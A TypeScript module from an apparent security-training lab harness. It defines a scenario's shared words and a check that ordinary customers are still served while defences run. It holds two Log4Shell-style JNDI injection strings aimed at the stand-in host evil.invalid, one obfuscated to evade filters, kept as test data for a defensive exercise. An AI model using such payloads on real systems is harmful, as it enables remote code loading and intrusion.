/** What the steps of shield share: their words, the attack, and who must never notice. */
import type { Check } from '../../harness/lab.ts';
import { t } from '../../harness/text.ts';
import type { Kit } from '../../harness/words.ts';

export type Words = Kit<
  'shop',
  'alice' | 'carol' | 'mallory' | 'oscar' | 'robot' | 'eve' | 'frank'
>;

/** `.invalid` exists nowhere, so that nothing could ever be called, even by mistake (RFC 6761). */
const NOWHERE = 'evil.invalid';
export const attack: string = `\${jndi:ldap://${NOWHERE}/a}`;
/** The same for a library that resolves what is inside first. */
export const trick: string = `\${\${lower:j}\${::-n}di:ldap://${NOWHERE}/b}`;
/** In the log, both are known by it. */
export const traceOfAttack: string = NOWHERE;

export function customersGoOn(expect: Words['expect']): Check {
  return {
    id: 'alice-served',
    claim: t('Alice is served as ever', 'Alice est servie comme toujours'),
    probe: expect.sees('alice', { status: 200, site: 'shop' }, 6),
    window: { within: '15s' },
    because: [
      {
        when: expect.sees('alice', { status: 403 }, 1),
        say: t(
          'A rule is too wide: it refuses ordinary requests too.',
          'Une règle est trop large : elle refuse aussi les requêtes ordinaires.',
        ),
      },
      {
        when: expect.sees('alice', { status: 401 }, 1),
        say: t(
          'The closed door takes every path: give it the path /knobs.',
          'La porte fermée couvre tous les chemins : donnez-lui le chemin /knobs.',
        ),
      },
    ],
  };
}
